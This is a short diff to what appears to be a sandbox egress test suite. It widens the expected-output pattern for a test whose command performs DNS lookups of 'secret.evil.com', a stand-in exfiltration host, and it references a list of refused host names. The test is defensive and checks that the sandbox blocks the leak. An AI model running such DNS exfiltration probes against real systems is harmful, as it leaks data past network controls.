@@ -99,7 +99,8 @@ export function connections(place: AttackPlace): Attempt[] {
       area: "connect",
       what: "a name, so that its lookup tells something",
       act: `node -e 'require("dns").lookup("secret.evil.com",e=>console.log(e.code))'; node -e 'require("dns").resolve("secret.evil.com",e=>console.log(e.code))'`,
-      always: /^(EAI_AGAIN|ENOTFOUND)\n(ECONNREFUSED|ETIMEOUT|ENOTFOUND)\n$/,
+      always:
+        /^(egress refused: .*\n)?(EAI_AGAIN|ENOTFOUND)\n(egress refused: .*\n)?(ECONNREFUSED|ETIMEOUT|ENOTFOUND)\n$/,
     },
     ...REFUSED_NAMES.map((host): Attempt => ({
       id: "A27",
